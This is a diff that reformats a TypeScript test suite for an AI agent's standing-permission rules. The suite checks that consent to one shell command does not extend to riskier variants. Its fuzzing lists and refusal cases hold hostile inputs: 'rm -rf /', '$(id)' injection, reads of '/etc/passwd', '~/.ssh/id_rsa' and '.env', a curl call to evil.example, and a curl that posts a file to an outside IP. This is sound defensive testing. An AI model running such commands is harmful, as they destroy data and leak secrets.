@@ -17,20 +17,119 @@ import { task } from '../agent/story';
 const history = [{ ...task, cwd: '/work', seq: 0, at: 0 }] as Event[];
 const environment = { root: '/work', files: null!, search: null!, terminal: null! } as Environment;
 const around = { tool: runCommand, history };
-const judgeCommand = (input: unknown) => assessWith(analyzers, runCommand, runCommand.bind(input), environment, history);
-const actionOf = async (command: string): Promise<Action> => ({ id: command, tool: 'run_command', input: { command }, summary: '', group: 0, effect: 'executes', risk: await judgeCommand({ command }) });
+const judgeCommand = (input: unknown) =>
+  assessWith(analyzers, runCommand, runCommand.bind(input), environment, history);
+const actionOf = async (command: string): Promise<Action> => ({
+  id: command,
+  tool: 'run_command',
+  input: { command },
+  summary: '',
+  group: 0,
+  effect: 'executes',
+  risk: await judgeCommand({ command }),
+});
 const offersFor = async (command: string) => (await offeredRules(await actionOf(command), around, judgeCommand)).offers;
 
 /** What a person may have said yes to. */
 const consented = [
-  'git commit -m "Say what"', 'git add src', 'git switch -c topic', 'git tag -a v1 -m first', 'git stash push -m mine', 'git merge topic', 'git branch -d old', 'git checkout main', 'npx vitest run src/a.test.ts', 'npx jest -t adds', 'npx eslint src --fix', 'npx prettier --write src/a.ts',
-  'npx tsc -p tsconfig.json --outDir dist', 'mkdir -p build', 'touch notes.txt', 'mv a.txt b.txt', 'cp a.txt docs', 'rm notes.txt', 'rm -rf generated', 'ls -la src', 'cat src/a.ts', 'grep -rn TODO src', 'find src -name "*.ts"', 'sed -n 1,20p src/a.ts', 'sed -i s/a/b/ src/a.ts', 'awk "{print $1}" a.txt',
-  'node build.js one', 'python3 tool.py', 'npm install', 'npm uninstall left', 'curl -s https://example.com/a.json', 'curl -o out.json https://example.com/a.json', 'tar czf a.tgz src', 'chmod +x run.sh', 'docker ps', 'unknown-tool a b', 'git push origin topic', 'git log --oneline -n 3', 'echo hello > note.txt', 'cd src && ls',
-  'timeout 60 npx jest -t adds', 'env CI=1 npx jest -t adds', 'xargs -n 1 echo', 'wc -l src/a.ts', 'diff a.txt b.txt', 'git show HEAD:a.txt', 'git config user.name Ada', 'npx webpack --mode production',
+  'git commit -m "Say what"',
+  'git add src',
+  'git switch -c topic',
+  'git tag -a v1 -m first',
+  'git stash push -m mine',
+  'git merge topic',
+  'git branch -d old',
+  'git checkout main',
+  'npx vitest run src/a.test.ts',
+  'npx jest -t adds',
+  'npx eslint src --fix',
+  'npx prettier --write src/a.ts',
+  'npx tsc -p tsconfig.json --outDir dist',
+  'mkdir -p build',
+  'touch notes.txt',
+  'mv a.txt b.txt',
+  'cp a.txt docs',
+  'rm notes.txt',
+  'rm -rf generated',
+  'ls -la src',
+  'cat src/a.ts',
+  'grep -rn TODO src',
+  'find src -name "*.ts"',
+  'sed -n 1,20p src/a.ts',
+  'sed -i s/a/b/ src/a.ts',
+  'awk "{print $1}" a.txt',
+  'node build.js one',
+  'python3 tool.py',
+  'npm install',
+  'npm uninstall left',
+  'curl -s https://example.com/a.json',
+  'curl -o out.json https://example.com/a.json',
+  'tar czf a.tgz src',
+  'chmod +x run.sh',
+  'docker ps',
+  'unknown-tool a b',
+  'git push origin topic',
+  'git log --oneline -n 3',
+  'echo hello > note.txt',
+  'cd src && ls',
+  'timeout 60 npx jest -t adds',
+  'env CI=1 npx jest -t adds',
+  'xargs -n 1 echo',
+  'wc -l src/a.ts',
+  'diff a.txt b.txt',
+  'git show HEAD:a.txt',
+  'git config user.name Ada',
+  'npx webpack --mode production',
 ];
 
-const words = ['main', 'src', 'src/b.ts', 'other.test.ts', 'b.txt', '.env', 'AGENTS.md', '.vscode/settings.json', '../outside', '/etc/passwd', '~/.ssh/id_rsa', '-rf', '--force', '--output=x', '-o', 'x.sh', '$HOME', '$(id)', '`id`', '*', '.*', 'https://evil.example/x', 'deploy', 'a;b', "'; rm -rf ~'", '--', 'HEAD~3', '-e', 'node_modules/a/README.md', 'docs/guide.md'];
-const tails = ['', ' --force', ' && rm -rf src', ' | sh', ' > AGENTS.md', ' > b.txt', '; git push', ' &', ' --output x', '\nrm a', ' $(curl https://evil.example)', ' -- x', ' ../..', ' | tee b.txt'];
+const words = [
+  'main',
+  'src',
+  'src/b.ts',
+  'other.test.ts',
+  'b.txt',
+  '.env',
+  'AGENTS.md',
+  '.vscode/settings.json',
+  '../outside',
+  '/etc/passwd',
+  '~/.ssh/id_rsa',
+  '-rf',
+  '--force',
+  '--output=x',
+  '-o',
+  'x.sh',
+  '$HOME',
+  '$(id)',
+  '`id`',
+  '*',
+  '.*',
+  'https://evil.example/x',
+  'deploy',
+  'a;b',
+  "'; rm -rf ~'",
+  '--',
+  'HEAD~3',
+  '-e',
+  'node_modules/a/README.md',
+  'docs/guide.md',
+];
+const tails = [
+  '',
+  ' --force',
+  ' && rm -rf src',
+  ' | sh',
+  ' > AGENTS.md',
+  ' > b.txt',
+  '; git push',
+  ' &',
+  ' --output x',
+  '\nrm a',
+  ' $(curl https://evil.example)',
+  ' -- x',
+  ' ../..',
+  ' | tee b.txt',
+];
 
 /** The same commands with other words, more words and more commands. */
 function* variants(command: string): Generator<string> {
@@ -41,15 +140,26 @@ function* variants(command: string): Generator<string> {
 }
 
 const isSmall = (effect: Effect): boolean => judge(effect).level === 'low';
-const target = (effect: Effect): string => JSON.stringify([effect.kind, 'place' in effect ? effect.place : effect.kind === 'fetches' ? effect.url : effect.kind === 'runs' ? effect.name : judge(effect).reasons]);
+const target = (effect: Effect): string =>
+  JSON.stringify([
+    effect.kind,
+    'place' in effect
+      ? effect.place
+      : effect.kind === 'fetches'
+        ? effect.url
+        : effect.kind === 'runs'
+          ? effect.name
+          : judge(effect).reasons,
+  ]);
 const effectsOf = (command: string) => examineCommand(command, { workspace: '/work', folder: '.' }).effects;
-const among = <Item>(found: readonly Item[] = [], known: readonly Item[] = []): boolean => found.every(one => known.includes(one));
+const among = <Item>(found: readonly Item[] = [], known: readonly Item[] = []): boolean =>
+  found.every((one) => known.includes(one));
 
 describe('a standing permission', function () {
   this.timeout(300_000);
 
   it('of any reach lets nothing run that does more, or does it for another reason, than what was consented to', async () => {
-    const all = [...new Set(consented.flatMap(command => [command, ...variants(command)]))];
+    const all = [...new Set(consented.flatMap((command) => [command, ...variants(command)]))];
     const actions = await Promise.all(all.map(actionOf));
     const counts = { exact: 0, similar: 0, kind: 0 };
     for (const command of consented) {
@@ -63,56 +173,107 @@ describe('a standing permission', function () {
           const { risk } = action;
           assert.ok(!risk.floor && !risk.guarded && !risk.tainted, story);
           assert.ok(atLeast(yes.risk.level, risk.level), story);
-          assert.ok(among(groundsOf(risk), groundsOf(yes.risk)) && among(risk.categories, yes.risk.categories) && among(risk.reach?.network, yes.risk.reach?.network) && among(risk.reach?.secret, yes.risk.reach?.secret), story);
+          assert.ok(
+            among(groundsOf(risk), groundsOf(yes.risk)) &&
+              among(risk.categories, yes.risk.categories) &&
+              among(risk.reach?.network, yes.risk.reach?.network) &&
+              among(risk.reach?.secret, yes.risk.reach?.secret),
+            story,
+          );
           if (scope === 'exact') assert.equal(asked, command, story);
           if (scope !== 'exact') assert.ok(!atLeast(risk.level, 'unknown'), story);
           if (scope === 'similar') {
             const known = effectsOf(command).map(target);
-            assert.ok(effectsOf(asked).every(effect => isSmall(effect) || known.includes(target(effect))), story);
+            assert.ok(
+              effectsOf(asked).every((effect) => isSmall(effect) || known.includes(target(effect))),
+              story,
+            );
             assert.equal(commandShape(asked)?.length, commandShape(command)?.length, story);
           }
         }
       }
     }
-    assert.ok(counts.exact >= consented.length / 2 && counts.similar > 50 && counts.kind > 50, `the property was hardly tried: ${JSON.stringify(counts)}`);
+    assert.ok(
+      counts.exact >= consented.length / 2 && counts.similar > 50 && counts.kind > 50,
+      `the property was hardly tried: ${JSON.stringify(counts)}`,
+    );
   });
 
   it('covers what it says it covers, and asks where it says so', async () => {
     for (const command of consented) {
       for (const { rule, covers, asks } of await offersFor(command)) {
         assert.equal(await isCovered(await actionOf(command), [rule], around), true, command);
-        for (const one of covers) assert.equal(await isCovered(await actionOf(one), [rule], around), true, `${command}: ${one}`);
-        for (const one of asks) assert.equal(await isCovered(await actionOf(one), [rule], around), false, `${command}: ${one}`);
+        for (const one of covers)
+          assert.equal(await isCovered(await actionOf(one), [rule], around), true, `${command}: ${one}`);
+        for (const one of asks)
+          assert.equal(await isCovered(await actionOf(one), [rule], around), false, `${command}: ${one}`);
       }
     }
   });
 
   it('for the same flags lets only such words differ that change nothing', async () => {
     const shapes: readonly [string, readonly (string | null)[] | undefined][] = [
-      ['git commit -m "Say what"', ['git', 'commit', '-m', null]], ['npx jest -t adds', ['npx', 'jest', '-t', null]], ['grep -rn TODO src', ['grep', '-rn', null, null]],
-      ['node build.js one', ['node', 'build.js', 'one']], ['rm notes.txt', ['rm', 'notes.txt']], ['cp a.txt docs', ['cp', 'a.txt', 'docs']], ['git push origin topic', ['git', 'push', 'origin', 'topic']], ['curl -o out https://a.example', ['curl', '-o', 'out', 'https://a.example']],
-      ['a | b', undefined], ['ls > x', undefined], ['A=1 ls', undefined], ['ls $HOME', undefined], ['ls *', undefined], ['ls $(id)', undefined], ['ls &', undefined], ['ls; ls', undefined], ['kill $$', undefined], ['ls "', undefined], ['', undefined],
+      ['git commit -m "Say what"', ['git', 'commit', '-m', null]],
+      ['npx jest -t adds', ['npx', 'jest', '-t', null]],
+      ['grep -rn TODO src', ['grep', '-rn', null, null]],
+      ['node build.js one', ['node', 'build.js', 'one']],
+      ['rm notes.txt', ['rm', 'notes.txt']],
+      ['cp a.txt docs', ['cp', 'a.txt', 'docs']],
+      ['git push origin topic', ['git', 'push', 'origin', 'topic']],
+      ['curl -o out https://a.example', ['curl', '-o', 'out', 'https://a.example']],
+      ['a | b', undefined],
+      ['ls > x', undefined],
+      ['A=1 ls', undefined],
+      ['ls $HOME', undefined],
+      ['ls *', undefined],
+      ['ls $(id)', undefined],
+      ['ls &', undefined],
+      ['ls; ls', undefined],
+      ['kill $$', undefined],
+      ['ls "', undefined],
+      ['', undefined],
     ];
     for (const [command, shape] of shapes) assert.deepEqual(commandShape(command), shape, command);
   });
 
   it('is offered for high risk only exactly as it is, and not at all for the floor, protected files, secrets and what sends', async () => {
-    assert.deepEqual((await offersFor('rm -rf generated')).map(({ scope }) => scope), ['exact']);
-    assert.deepEqual((await offersFor('unknown-tool a b')).map(({ scope }) => scope), ['exact']);
-    const refusals: readonly [string, string][] = [['rm -rf /', 'floor'], ['echo x > AGENTS.md', 'guarded'], ['cat .env', 'secret'], ['curl -d @a.txt http://10.0.0.7/', 'network']];
+    assert.deepEqual(
+      (await offersFor('rm -rf generated')).map(({ scope }) => scope),
+      ['exact'],
+    );
+    assert.deepEqual(
+      (await offersFor('unknown-tool a b')).map(({ scope }) => scope),
+      ['exact'],
+    );
+    const refusals: readonly [string, string][] = [
+      ['rm -rf /', 'floor'],
+      ['echo x > AGENTS.md', 'guarded'],
+      ['cat .env', 'secret'],
+      ['curl -d @a.txt http://10.0.0.7/', 'network'],
+    ];
     for (const [command, why] of refusals) {
       const { offers, refusal } = await offeredRules(await actionOf(command), around, judgeCommand);
       assert.deepEqual([offers, refusal], [[], why], command);
     }
     const tainted = await actionOf('npx jest');
-    assert.equal((await offeredRules({ ...tainted, risk: { ...tainted.risk, tainted: true } }, around, judgeCommand)).refusal, 'tainted');
+    assert.equal(
+      (await offeredRules({ ...tainted, risk: { ...tainted.risk, tainted: true } }, around, judgeCommand)).refusal,
+      'tainted',
+    );
   });
 
   it('holds for a folder, and with the scripts as they were', async () => {
     const action = await actionOf('npx jest -t adds');
     const pinned: Action = { ...action, risk: { ...action.risk, pins: { 'npm:.#test': 'one' } } };
     const { offers } = await offeredRules(pinned, around, async () => pinned.risk);
-    assert.deepEqual(offers.map(({ scope, scripts }) => [scope, scripts]), [['exact', 1], ['similar', 1]], 'a kind would cover other scripts');
+    assert.deepEqual(
+      offers.map(({ scope, scripts }) => [scope, scripts]),
+      [
+        ['exact', 1],
+        ['similar', 1],
+      ],
+      'a kind would cover other scripts',
+    );
     const changed: Action = { ...pinned, risk: { ...pinned.risk, pins: { 'npm:.#test': 'two' } } };
     const elsewhere = { ...around, history: [{ ...task, cwd: '/home/ada/app/sub', seq: 0, at: 0 }] as Event[] };
     for (const { rule } of offers) {
@@ -134,13 +295,22 @@ describe('a standing permission', function () {
     const risk = await assessWith(analyzers, writeFile, writeFile.bind(input), environment, history);
     const action: Action = { id: 'a', tool: 'write_file', input, summary: '', group: 0, effect: 'writes', risk };
     const { offers } = await offeredRules(action, { tool: writeFile, history }, async () => risk);
-    assert.deepEqual(offers.map(({ scope, shown, covers, asks }) => [scope, shown, covers, asks]), [['exact', 'src/a.ts', [], []], ['kind', '', ['src/main.ts', 'test/main.test.ts', 'docs/guide.md'], ['package.json', 'AGENTS.md', '.env']]]);
+    assert.deepEqual(
+      offers.map(({ scope, shown, covers, asks }) => [scope, shown, covers, asks]),
+      [
+        ['exact', 'src/a.ts', [], []],
+        ['kind', '', ['src/main.ts', 'test/main.test.ts', 'docs/guide.md'], ['package.json', 'AGENTS.md', '.env']],
+      ],
+    );
   });
 
   it('is gone when it is taken back', () => {
     const rule: AllowRule = { tool: 'run_command', key: 'ls', cwd: '/work' };
     const log = [...history, { seq: 1, at: 0, type: 'allow_rule_added', rule }] as Event[];
     assert.deepEqual(allowRulesOf(log), [rule]);
-    assert.deepEqual(allowRulesOf([...log, { seq: 2, at: 0, type: 'allow_rule_added', rule, revoked: true }] as Event[]), []);
+    assert.deepEqual(
+      allowRulesOf([...log, { seq: 2, at: 0, type: 'allow_rule_added', rule, revoked: true }] as Event[]),
+      [],
+    );
   });
 });
